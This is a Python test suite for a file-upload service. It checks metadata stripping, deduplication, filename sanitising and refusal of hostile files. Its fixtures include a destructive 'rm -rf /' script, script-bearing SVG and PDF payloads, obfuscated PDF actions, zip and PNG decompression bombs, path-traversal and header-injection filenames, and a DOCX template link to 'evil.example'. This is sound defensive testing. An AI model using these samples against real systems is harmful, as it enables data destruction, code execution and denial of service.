"""Files are taken for what they are, and hostile ones leave nothing behind."""

import io
import struct
import zipfile
import zlib

import openpyxl
import pytest
import sqlalchemy as sa
from PIL import Image

from cp_circles.errors import NotFound
from cp_circles.files import queries, services
from cp_circles.files.kinds import FileRefused
from cp_circles.files.models import Blob
from cp_circles.files.naming import may_be_shown, safe_name
from cp_circles.files.storage import LocalStorage
from tests.conftest import NOW


@pytest.fixture
def storage(tmp_path):
    return LocalStorage(tmp_path / "blobs")


@pytest.fixture
def store(session, storage):
    def put(content, name="file", **limits):
        return services.store_blob(session, storage, content, name, NOW, **limits)

    return put


def stored(storage, blob):
    with queries.open_blob(storage, blob) as stream:
        return stream.read()


def picture(kind, size=(40, 30), mode="RGB", **options):
    out = io.BytesIO()
    Image.new(mode, size, "red" if mode == "RGB" else 1).save(out, kind, **options)
    return out.getvalue()


def with_gps(kind):
    exif = Image.Exif()
    exif[0x010E] = "taken at home"
    exif[0x0112] = 6
    exif.get_ifd(0x8825).update({1: "N", 2: (31.0, 13.0, 40.0)})
    return picture(kind, exif=exif.tobytes())


def pdf(*objects, tail=b""):
    body = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % place for place in places)
    body += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        tail,
        start,
    )
    return body


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PLAIN_PDF = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE)


def archive(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in entries.items():
            packed.writestr(name, content)
    return out.getvalue()


def workbook():
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "读数"
    book.save(out)
    return out.getvalue()


DOCX = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}


@pytest.mark.parametrize(("kind", "media"), [("PNG", "png"), ("JPEG", "jpeg"), ("WEBP", "webp")])
def test_a_picture_is_stored_upright_without_its_metadata(storage, store, kind, media):
    content = with_gps(kind)
    assert b"taken at home" in content
    blob = store(content, "photo")
    kept = stored(storage, blob)

    assert (blob.media_type, blob.width, blob.height, blob.size) == (f"image/{media}", 30, 40, len(kept))
    assert b"taken at home" not in kept and b"Exif" not in kept
    with Image.open(io.BytesIO(kept)) as image:
        assert dict(image.getexif()) == {}
        assert "exif" not in image.info and "comment" not in image.info


def test_a_jpeg_comment_and_a_hidden_payload_are_gone(storage, store):
    content = picture("JPEG", comment=b"<script>alert(1)</script>") + archive({"evil.exe": "MZ"})
    kept = stored(storage, store(content, "photo.jpg"))
    assert b"script" not in kept and b"evil" not in kept and b"PK\x05\x06" not in kept


def test_a_png_text_chunk_is_gone_and_transparency_stays(storage, store):
    from PIL.PngImagePlugin import PngInfo

    notes = PngInfo()
    notes.add_text("Comment", "<svg onload=alert(1)>")
    out = io.BytesIO()
    Image.new("RGBA", (4, 4), (1, 2, 3, 0)).save(out, "PNG", pnginfo=notes)
    kept = stored(storage, store(out.getvalue()))
    assert b"svg" not in kept
    with Image.open(io.BytesIO(kept)) as image:
        assert image.getpixel((0, 0)) == (1, 2, 3, 0)


def test_a_palette_and_a_grey_picture_are_read(store):
    assert store(picture("PNG", mode="P")).media_type == "image/png"
    assert store(picture("JPEG", mode="L")).media_type == "image/jpeg"


def bomb_png(width, height):
    def chunk(kind, content):
        body = kind + content
        return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0"))
        + chunk(b"IEND", b"")
    )


def test_the_same_content_is_kept_once(session, storage, store):
    one, two = store(b"a,b\n1,2\n", "one.csv"), store(b"a,b\n1,2\n", "two.csv")
    assert one is two
    assert list(storage.names()) == [one.sha256]
    assert session.scalar(sa.select(sa.func.count()).select_from(Blob)) == 1


@pytest.mark.parametrize(
    ("content", "name", "media"),
    [
        (PLAIN_PDF, "a.pdf", "application/pdf"),
        (PLAIN_PDF, "photo.png", "application/pdf"),
        (workbook(), "a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        (archive(DOCX), "a", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("月份,用电量\n1,2\n".encode(), "a.csv", "text/csv"),
        ("月份,用电量\n1,2\n".encode("gb18030"), "a.CSV", "text/csv"),
        ("\ufeff会议纪要".encode(), "a.png", "text/plain"),
        (b"1 < 2 and 3 > 2", "a.txt", "text/plain"),
    ],
)
def test_documents_are_stored_as_they_came(storage, store, content, name, media):
    blob = store(content, name)
    assert (blob.media_type, stored(storage, blob)) == (media, content)


def objects_packed(inside):
    packed = zlib.compress(b"4 0 " + inside)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(packed)
    return head + b"\nstream\n" + packed + b"\nendstream"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FETCHES = (
    f'<Relationships><Relationship Id="r1" Type="{RELATION}/attachedTemplate" '
    'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
HOSTILE = {
    "nothing": b"",
    "a renamed program": b"MZ\x90\x00\x03\x00\x00\x00",
    "a linux program": b"\x7fELF\x02\x01\x01\x00",
    "a shell script": b"#!/bin/sh\nrm -rf /\n",
    "an svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "an svg after a comment": b"<!-- hello -->\n<svg onload='alert(1)'/>",
    "a web page": b"<!DOCTYPE html><html><body>x</body></html>",
    "a web page in capitals": b"\n\n < HTML>",
    "a script in a csv": b"a,b\n<script src=x>,1\n",
    "a gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "an old Excel file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64),
    "binary text": b"a\x00b",
    "a broken png": picture("PNG")[:60],
    "a broken jpeg": picture("JPEG")[:200],
    "a broken webp": b"RIFF\x10\x00\x00\x00WEBPVP8 ",
    "a png of a hundred thousand by a hundred thousand": bomb_png(100_000, 100_000),
    "a png of fifty million pixels": bomb_png(8_000, 7_000),
    "a very long png": bomb_png(20_000, 1),
    "a pdf that is only a heading": b"%PDF-1.7\n%%EOF",
    "a pdf cut off": PLAIN_PDF[:120],
    "a pdf and a zip at once": PLAIN_PDF + archive({"evil.exe": "MZ"}) + b"%%EOF",
    "a pdf that runs a script": pdf(CATALOG % b"/OpenAction << /S /JavaScript /JS (x) >>", PAGES, PAGE),
    "a pdf that hides its script": pdf(CATALOG % b"/OpenAction << /S /J#61vaScript >>", PAGES, PAGE),
    "a pdf that starts a program": pdf(CATALOG % b"/OpenAction << /S /Launch /F (x) >>", PAGES, PAGE),
    "a pdf with a form of scripts": pdf(CATALOG % b"/AcroForm << /XFA [] >>", PAGES, PAGE),
    "a pdf with an attachment": pdf(CATALOG % b"/Names << /EmbeddedFiles 9 0 R >>", PAGES, PAGE),
    "a pdf with a packed script": pdf(
        CATALOG % b"", PAGES, PAGE, objects_packed(b"<< /S /JavaScript /JS (x) >>")
    ),
    "a pdf with a disguised pack": pdf(
        CATALOG % b"", PAGES, PAGE, objects_packed(b"<< /JS (x) >>").replace(b"/ObjStm", b"/Obj#53tm")
    ),
    "a locked pdf": pdf(CATALOG % b"", PAGES, PAGE, tail=b"/Encrypt 4 0 R"),
    "a plain zip": archive({"a.txt": "x"}),
    "a zip with a program": archive({"evil.exe": "MZ"}),
    "a broken zip": archive(DOCX)[:80],
    "a zip bomb in a workbook": archive(
        {"[Content_Types].xml": "", "xl/workbook.xml": "", "xl/a.xml": bytes(30_000_000)}
    ),
    "a workbook of too many parts": archive(
        {"[Content_Types].xml": "", "xl/workbook.xml": ""} | {f"xl/{n}.xml": "" for n in range(3001)}
    ),
    "a workbook with macros": archive(
        {"[Content_Types].xml": "", "xl/workbook.xml": "", "xl/vbaProject.bin": "x"}
    ),
    "a document with an embedded program": archive(DOCX | {"word/embeddings/oleObject1.bin": "x"}),
    "a document that climbs out": archive(DOCX | {"../../evil.xml": "x"}),
    "a document with entities": archive(DOCX | {"word/a.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]>"}),
    "a document with late entities": archive(
        DOCX | {"word/a.xml": f"<!--{'x' * 1_100_000}--><!DOCTYPE a [<!ENTITY b 'c'>]>"}
    ),
    "a document with wide entities": archive(DOCX | {"word/a.xml": "<!DOCTYPE a []>".encode("utf-16-be")}),
    "a document that fetches its template": archive(DOCX | {"word/_rels/settings.xml.rels": FETCHES}),
}


@pytest.mark.parametrize("what", HOSTILE)
@pytest.mark.parametrize("name", ["report.pdf", "photo.png"])
def test_a_hostile_file_is_refused_and_nothing_stored(session, storage, store, what, name):
    with pytest.raises(FileRefused) as refusal:
        store(HOSTILE[what], name)
    assert refusal.value.field == "file"
    assert list(storage.names()) == []
    assert session.scalar(sa.select(sa.func.count()).select_from(Blob)) == 0


def test_a_document_that_links_and_names_its_template_on_the_same_machine_is_taken(store):
    links = FETCHES.replace("https://evil.example/x.dotm", "file:///C:\\Users\\li\\Normal.dotm")
    links += FETCHES.replace("attachedTemplate", "hyperlink")
    assert "wordprocessingml" in store(archive(DOCX | {"word/_rels/a.xml.rels": links})).media_type


def test_a_file_above_the_limit_is_refused(storage, store):
    assert store(b"x" * 2_000_000, most_bytes=2_000_000).size == 2_000_000
    with pytest.raises(FileRefused) as refusal:
        store(b"y" * 2_000_001, most_bytes=2_000_000)
    assert refusal.value.values == {"most": 2}


def test_a_pdf_with_packed_but_harmless_objects_is_taken(store):
    content = pdf(CATALOG % b"", PAGES, PAGE, objects_packed(b"<< /Title (x) >>"))
    assert store(content).media_type == "application/pdf"


def test_many_stream_words_do_not_cost_time(store):
    with pytest.raises(FileRefused):
        store(b"%PDF-1.7\n" + b"<<>>stream\n" * 1_000_000 + b"%%EOF")


@pytest.mark.parametrize(
    ("declared", "media", "given"),
    [
        ("../../etc/passwd", "text/plain", "passwd.txt"),
        ("C:\\Users\\x\\照片.PNG", "image/png", "照片.png"),
        ("photo.exe", "image/jpeg", "photo.exe.jpg"),
        ('a"; filename="b.html', "application/pdf", "a; filename=b.html.pdf"),
        ("invoice\u202egpj.exe", "image/png", "invoicegpj.exe.png"),
        ("\r\nSet-Cookie: x", "text/csv", "Set-Cookie x.csv"),
        ("", "text/csv", "file.csv"),
        ("...", "image/webp", "file.webp"),
        ("长" * 200 + ".jpeg", "image/jpeg", "长" * 80 + ".jpeg"),
    ],
)
def test_a_name_is_never_trusted(declared, media, given):
    assert safe_name(declared, media) == given


def test_only_pictures_may_be_shown():
    assert may_be_shown("image/png")
    assert not any(
        may_be_shown(kind) for kind in ("image/svg+xml", "application/pdf", "text/plain", "text/html")
    )


def test_orphans_and_damage_are_found(session, storage, store):
    kept, lost, spoilt = store(b"kept"), store(b"lost"), store(b"spoilt")
    (storage.root / lost.sha256[:2] / lost.sha256).unlink()
    (storage.root / spoilt.sha256[:2] / spoilt.sha256).write_bytes(b"other")
    storage.put("ab" * 32, b"without a row")
    found = queries.orphans(session, storage)

    assert (found.without_row, found.without_content) == (["ab" * 32], [lost.sha256])
    assert queries.damaged(session, storage) == [spoilt.sha256]
    assert queries.blobs_by_hash(session, [kept.sha256, "0" * 64]) == {kept.sha256: kept}
    with pytest.raises(NotFound):
        queries.open_blob(storage, lost)
    with pytest.raises(NotFound):
        queries.blob_by_hash(session, "0" * 64)


@pytest.mark.parametrize("name", ["", "../../etc/passwd", "AB" * 32, "a" * 63])
def test_the_storage_opens_nothing_but_hashes(storage, name):
    with pytest.raises(NotFound):
        storage.open(name)


def test_a_content_that_cannot_be_written_leaves_no_part(storage, monkeypatch):
    def full(handle):
        raise OSError("no space left")

    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(OSError):
        storage.put("cd" * 32, b"x")
    assert list(storage.root.rglob("*.*")) == [] and list(storage.names()) == []
